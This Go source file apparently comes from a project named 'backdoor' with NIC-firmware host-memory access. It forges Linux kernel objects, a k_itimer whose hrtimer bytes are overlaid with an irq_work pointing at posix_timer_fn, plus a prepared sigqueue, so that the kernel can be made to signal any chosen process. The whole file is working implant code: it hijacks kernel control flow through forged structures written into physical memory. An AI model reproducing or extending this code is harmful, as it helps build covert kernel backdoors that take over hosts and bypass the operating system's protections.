package heal

import (
	"fmt"

	"github.com/backdoor-rhs/backdoor/agent/kernel"
	"github.com/backdoor-rhs/backdoor/nicfw/hostmem"
)

// signaller is how signals are laid down for posix_timer_fn on a kernel. That function takes the k_itimer around the hrtimer
// that it is given, and sends the timer's sigqueue to the timer's pid, under siglock, as the kernel does for any expired
// timer. The hrtimer's own bytes are not used by it, so they can at the same time be the irq_work that has it called with its
// own address.
//
// The sigqueue lies behind the k_itimer, which points to it; since v6.13 it is a part of it ("posix-timers: Embed sigqueue in
// struct k_itimer"), and the k_itimer has a count of those who use it: 0 stands for one, so that the kernel, which adds one for the time that the signal
// is pending, never frees it.
type signaller struct {
	work irqWork
	fn   kernel.VirtAddr
	fnPA hostmem.PhysAddr
	head Bytes

	size  uint64 // of a k_itimer with its sigqueue, bytes
	queue uint64 // where in them the sigqueue is
	// In a k_itimer; itSigq is the pointer, of a kernel that has one, and itType the kind of its pid, of one that has none.
	itPID, itSigq, itType, itTimer           uint64
	embedded                                 bool
	tgid                                     uint32 // PIDTYPE_TGID
	sqNext, sqPrev, sqFlags, sqSigno, sqCode uint64 // in a sigqueue
}

func newSignaller(m model) (signaller, error) {
	var s signaller
	var err error
	if s.work, err = provenIRQWork(m); err != nil {
		return s, err
	}
	if s.fn, s.head, err = callable(m, "posix_timer_fn"); err != nil {
		return s, err
	}
	if s.fnPA, err = m.Phys(s.fn); err != nil {
		return s, err
	}
	l := layout{m: m}
	itSize, sqSize := l.sizeof("k_itimer"), l.sizeof("sigqueue")
	s.itPID = l.field("k_itimer", "it_pid", 8)
	s.itTimer = l.field("k_itimer", "it.real.timer", l.sizeof("hrtimer"))
	s.sqNext = l.field("sigqueue", "list.next", 8)
	s.sqPrev = l.field("sigqueue", "list.prev", 8)
	s.sqFlags = l.field("sigqueue", "flags", 4)
	s.sqSigno = l.field("sigqueue", "info.si_signo", 4)
	s.sqCode = l.field("sigqueue", "info.si_code", 4)
	// What the function looks at beside these must be nothing of the irq_work's.
	used := [][2]uint64{{l.field("k_itimer", "it_sigev_notify", 4), 4}, {s.itPID, 8}}
	if f, err := m.Field("k_itimer", "sigq"); err == nil && f.Size == sqSize && sqSize > 8 {
		s.embedded, s.queue, s.size = true, f.Offset, itSize
		s.itType = l.field("k_itimer", "it_pid_type", 4)
		tgid, err := m.Enum("pid_type", "PIDTYPE_TGID")
		if err != nil {
			return s, err
		}
		s.tgid = uint32(tgid)
		it, err := m.Field("k_itimer", "it_lock") // of zeros it is free, for real time as well
		if err != nil {
			return s, err
		}
		lock := [2]uint64{it.Offset, it.Size}
		used = append(used, [2]uint64{s.queue, sqSize}, [2]uint64{s.itType, 4}, [2]uint64{l.field("k_itimer", "rcuref.refcnt.counter", 4), 4},
			[2]uint64{l.field("k_itimer", "it_signal", 8), 8}, lock, [2]uint64{l.field("k_itimer", "it_interval", 8), 8},
			[2]uint64{l.field("k_itimer", "ignored_list", 16), 16})
	} else {
		s.itSigq = l.field("k_itimer", "sigq", 8)
		s.queue = (itSize + 15) &^ 15
		s.size = s.queue + sqSize
		used = append(used, [2]uint64{s.itSigq, 8})
	}
	if l.err != nil {
		return s, fmt.Errorf("layout of posix timers: %w", l.err)
	}
	for _, u := range used {
		if u[0] < s.itTimer+s.work.size && s.itTimer < u[0]+u[1] {
			return s, fmt.Errorf("irq_work lies over what is used of a k_itimer, at %d: %w", u[0], kernel.ErrNotSupported)
		}
	}
	switch {
	case s.work.size > l.sizeof("hrtimer"):
		return s, fmt.Errorf("irq_work does not fit over the hrtimer of a k_itimer: %w", kernel.ErrNotSupported)
	case signalAt+s.size > leaseOffset, s.queue+sqSize > s.size, s.sqNext != 0, s.sqSigno >= s.sqCode, s.sqCode-s.sqSigno > maxSiginfoDistance:
		return s, fmt.Errorf("layout of posix timers is not the one known (k_itimer %d bytes, sigqueue.list at %d): %w", itSize, s.sqNext, kernel.ErrNotSupported)
	}
	return s, nil
}

// make returns the k_itimer, with the irq_work in it and its sigqueue, that sends a signal to a process by its struct pid when it lies at an
// address. next is the work that is run after it; 0 if it is the last.
func (s *signaller) make(va, pid uint64, signo uint32, next uint64) Bytes {
	b := make(Bytes, s.size)
	put64(b, s.itPID, pid)
	if s.embedded {
		put32(b, s.itType, s.tgid)
	} else {
		put64(b, s.itSigq, va+s.queue)
	}
	put64(b, s.itTimer+s.work.next, next)
	put32(b, s.itTimer+s.work.flags, irqWorkType|irqWorkLazy|irqWorkClaimed)
	put64(b, s.itTimer+s.work.fn, uint64(s.fn))
	q := b[s.queue:]
	put64(q, s.sqNext, va+s.queue)
	put64(q, s.sqPrev, va+s.queue)
	put32(q, s.sqFlags, sigqueuePrealloc)
	put32(q, s.sqSigno, signo)
	code := int32(siTimer)
	put32(q, s.sqCode, uint32(code))
	return b
}

// spent is what the kernel makes of it once the signal is no longer pending: the claim is gone, everything else is as it was.
func (s *signaller) spent(b Bytes) Bytes {
	b = append(Bytes(nil), b...)
	put32(b, s.itTimer+s.work.flags, irqWorkType|irqWorkLazy)
	return b
}
